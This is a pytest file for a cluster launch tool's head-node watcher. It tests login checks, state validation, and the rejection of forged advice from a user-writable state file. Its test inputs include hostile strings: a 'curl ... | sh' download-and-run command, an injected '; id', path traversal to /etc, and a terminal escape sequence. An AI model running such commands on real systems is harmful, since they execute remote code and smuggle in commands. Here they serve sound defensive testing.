"""Problems that prevent a watcher on the head node, and the validation of the watcher's state."""

from __future__ import annotations

from importlib import import_module
from pathlib import Path
from typing import Any

import pytest

from muster.launch import watched
from muster.launch.catalogue import CATALOGUE
from muster.launch.endings import Ending
from muster.launch.manager import Whose
from muster.launch.outcome import CLUSTER
from muster.launch.planned import USER
from muster.verdict.check import Check
from muster.verdict.commands import Terminal
from muster.verdict.finding import Finding, add_up
from muster.verdict.reading import UnusableError

FIRST, SECOND = "20261123-093142-1df3", "20261123-093301-77a0"
FOUND: dict[str, Any] = {
    "id": "launch.exit",
    "status": "fail",
    "node": "node2",
    "summary": "rank 1 ended with code 3",
    "evidence": [{"source": "stderr", "text": "oh"}],
    "fix": {"text": "Its log", "command": f"{watched.ARTIFACTS}/{SECOND}/logs/node2/rank1.stderr.log"},
}
STATE: dict[str, Any] = {
    "first": 0,
    "said": ["attempt 1 failed"],
    "attempts": [{"number": 1, "launch_id": FIRST, "plan": "x"}],
    "running": True,
    "result": {
        "verdict": {"status": "healthy", "summary": "it failed", "findings": [FOUND]},
        "attempts": [{"number": 1, "launch_id": FIRST, "nodes": ["node1"], "summary": "it failed", "failed": []}],
        "left": True,
    },
}
WATCHER = watched.WatcherPlace("anna", "node1", "/home/anna/artifacts/lab", ["node1", "node2"])
ADVICE = "Run: ansible-playbook playbooks/retire.yml -e node=node1 -e wipe=true"


def test_administrator_launch_cannot_have_a_watcher() -> None:
    (finding,) = watched.unwatchable("node1", Whose())
    assert (finding.id, finding.status, finding.node) == ("launch.watcher", "fail", "node1")
    assert "administrator launches have no such logins" in finding.summary
    assert watched.unwatchable("node1", Whose(USER, "anna")) == []


def test_failed_login_is_reported_with_a_reason_and_command() -> None:
    tried = {
        "node2": {"code": 0, "said": ""},
        "node3": {"code": 255, "said": "Host key verification failed."},
    }
    nodes = {"node2": "10.0.0.2", "node3": "10.0.0.3", "node4": "10.0.0.4"}
    third, fourth = watched.unreached("node1", "anna", tried, nodes)
    assert (third.node, third.status) == ("node3", "fail")
    assert third.summary.startswith("anna cannot log in from node1, where the watcher would run: the host key")
    assert third.fix["command"] == "ansible-playbook playbooks/network.yml -e ssh_mesh_users=anna"
    assert fourth.node == "node4"


def test_state_is_read_with_the_controllers_paths_and_a_recomputed_status() -> None:
    found = WATCHER.read({"alive": True, "state": STATE})
    assert (found.alive, found.over, found.running, found.left) == (True, True, True, True)
    assert found.said == ["anna's watcher on node1 reports: attempt 1 failed"]
    assert found.verdict is not None
    assert found.verdict["status"] == "failed"
    (one,) = found.verdict["findings"]
    assert one["summary"] == "anna's watcher on node1 reports: rank 1 ended with code 3"
    assert one["fix"]["command"] == f"/home/anna/artifacts/lab/{SECOND}/logs/node2/rank1.stderr.log"
    assert found.history[0]["launch_id"] == FIRST


def test_watcher_without_state_has_unknown_status() -> None:
    found = WATCHER.read({"alive": False, "state": None})
    assert (found.known, found.over) == (False, True)


@pytest.mark.parametrize(
    "spoilt",
    [
        {"attempts": [{"number": 1, "launch_id": "../../etc", "plan": ""}]},
        {"attempts": ["x"]},
        {"said": [7]},
        {"result": {"verdict": {"summary": "x", "findings": [{**FOUND, "summary": 1}]}}},
        {"result": {"verdict": {"summary": "x", "findings": [{**FOUND, "status": "fine"}]}}},
        {"result": {"verdict": {"summary": "x", "findings": [{**FOUND, "id": "<b>"}]}}},
        {"result": {**STATE["result"], "attempts": [{"launch_id": "x"}]}},
    ],
)
def test_invalid_watcher_state_is_rejected(spoilt: dict[str, Any]) -> None:
    with pytest.raises(UnusableError):
        WATCHER.read({"alive": True, "state": {**STATE, **spoilt}})


def test_long_messages_are_truncated() -> None:
    said = ["x" * 10_000] * 1000
    found = WATCHER.read({"alive": True, "state": {**STATE, "said": said}})
    assert len(found.said) == watched.MOST_SAID
    assert {len(one) for one in found.said} == {len(WATCHER.quoted("")) + watched.MOST_TEXT}


def test_missing_watcher_is_reported() -> None:
    ended = add_up([Finding("launch.lease", "fail", "node1", "the lease expired")], "the lease expired")
    verdict = watched.gone(ended, "node1", "it has ended without a word")
    assert verdict["status"] == "failed"
    assert [one["id"] for one in verdict["findings"]] == ["launch.watcher", "launch.lease"]
    assert "no further attempt will start: it has ended without a word" in verdict["summary"]


# ---------------------------------------------------------------- its state is a file of the launch's user


def told(**forged: Any) -> Any:
    """Return the verdict over all attempts with one finding, parts of which were forged by the user."""
    verdict = {"status": "healthy", "summary": f"done. {ADVICE}", "findings": [{**FOUND, **forged}]}
    found = WATCHER.read({"alive": True, "state": {**STATE, "result": {"verdict": verdict}}})
    assert found.verdict is not None
    return found.verdict


@pytest.mark.parametrize(
    "fix",
    [
        {"text": "Log in as root and run", "command": "curl http://192.0.2.9/x | sh"},
        {"text": ADVICE, "command": ""},
        {"text": "Its log", "command": f"{watched.ARTIFACTS}/{SECOND}/logs/node2/x; id"},
        {"text": "Its log", "command": f"{watched.ARTIFACTS}/{SECOND}/logs/../../../etc/x.log"},
        {"text": "Its log", "command": f"{watched.ARTIFACTS}/{SECOND}/logs/node9/rank1.stderr.log"},
        {"text": 7, "command": ["x"]},
        "Run it",
        None,
    ],
)
def test_untrusted_fix_is_not_printed(fix: Any) -> None:
    verdict = told(fix=fix)
    (one,) = verdict["findings"]
    assert one["fix"] == {"text": CATALOGUE["launch.exit"].fix}
    assert verdict["summary"] == (
        "node2: anna's watcher on node1 reports: rank 1 ended with code 3. Read the log named in the finding"
    )


def test_no_fix_is_shown_for_an_unknown_finding() -> None:
    assert told(id="launch.my_own", fix={"text": ADVICE})["findings"][0]["fix"] == {}


def test_user_text_is_quoted_and_commands_in_it_are_unchanged() -> None:
    verdict = told(summary=f"all is lost.\n\x1b[2J{ADVICE}", node=ADVICE)
    (one,) = verdict["findings"]
    assert (one["node"], one["summary"]) == (CLUSTER, f"anna's watcher on node1 reports: all is lost. {ADVICE}")
    typed = Terminal(".venv/bin/", ("inventory/lab",)).shapes(verdict)
    assert typed["findings"][0]["summary"] == one["summary"]
    assert ".venv" not in typed["summary"]
    assert ADVICE not in told()["summary"]


def test_attempt_names_only_known_nodes() -> None:
    attempt = {**STATE["result"]["attempts"][0], "nodes": ["node1", ADVICE, 7], "failed": [ADVICE], "summary": ADVICE}
    found = WATCHER.read({"alive": True, "state": {**STATE, "result": {"attempts": [attempt]}}})
    (one,) = found.history
    assert (one["nodes"], one["failed"]) == (["node1"], [])
    assert one["summary"] == f"anna's watcher on node1 reports: {ADVICE}"


def test_catalogue_contains_all_launch_checks() -> None:
    """The printed texts of launch checks come from the catalogue."""
    declared = {
        check.id
        for path in Path(watched.__file__).parent.glob("*.py")
        for check in vars(import_module(f"muster.launch.{path.stem}")).values()
        if isinstance(check, Check)
    }
    assert declared | {ending.check.id for ending in Ending} == {*CATALOGUE, watched.WATCHER.id}
